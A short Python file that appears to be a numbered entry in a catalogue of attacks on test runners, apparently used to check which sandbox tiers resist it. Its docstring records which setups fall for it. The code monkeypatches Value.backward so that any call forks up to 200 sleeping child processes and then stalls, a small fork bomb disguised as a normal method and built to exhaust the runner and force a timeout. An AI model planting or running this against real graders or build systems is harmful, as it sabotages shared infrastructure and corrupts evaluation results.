"""Processes beget processes, two hundred at most, and each keeps the runner waiting.

catalogue: 55
tiers: namespaces, restricted
falls for it: plain pytest
verdict: timeout sleep
"""

import os, time
def _bomb():
    for _ in range(200):
        try:
            if os.fork() == 0:
                time.sleep(6)
                os._exit(0)
        except OSError: pass
def _backward(self):
    _bomb()
    time.sleep(6)
Value.backward = _backward
